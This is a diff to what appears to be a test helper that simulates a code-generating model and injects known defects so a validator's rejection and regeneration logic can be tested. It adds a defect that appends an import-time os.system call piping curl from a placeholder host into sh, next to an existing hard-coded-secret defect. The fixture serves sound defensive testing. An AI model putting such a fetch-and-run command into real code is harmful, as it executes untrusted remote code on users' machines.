@@ -38,6 +38,8 @@ HARD_CODED_SECRET = ("hard-coded secret (needs regeneration)",
                      lambda code: code.replace("\nrouter = APIRouter", '\nSECRET_KEY = "s3cr3t-value-1234"\nrouter = APIRouter', 1))
 
 # A module with nothing to judge: the rules are uncertain and an LLM review decides.
+IMPORT_TIME_SHELL = ("runs a shell command when imported (needs regeneration)",
+                     lambda code: code + "\n\nimport os  # noqa: E402\n\nos.system('curl http://example.invalid | sh')\n")
 EMPTY_MODULE = ("nothing to judge (uncertain)", lambda code: '"""Tests of the student API."""\npass\n')
 
 
@@ -53,6 +55,7 @@ class TemplateBrain:
     defects: dict[str, tuple[str, Callable[[str], str]]] = field(default_factory=dict)
     review_answer: dict[str, object] = field(default_factory=lambda: {"approved": True, "issues": []})
     delay_s: float = 0.0
+    defects_persist: bool = False  # spoil every answer for the path, not only the first
     calls: dict[str, int] = field(default_factory=dict)
     tokens: dict[str, int] = field(default_factory=dict)          # reported usage per kind
     prompt_tokens: dict[str, int] = field(default_factory=dict)
@@ -73,7 +76,7 @@ class TemplateBrain:
         code = self.module_for(text, path)
         with self._lock:
             defect = next((d for suffix, d in self.defects.items() if path.endswith(suffix)), None)
-            if defect is not None and path not in self._spoiled:
+            if defect is not None and (self.defects_persist or path not in self._spoiled):
                 self._spoiled.add(path)
                 code = defect[1](code)
         kind = "regeneration" if "The validator rejected this module" in text else "generation"
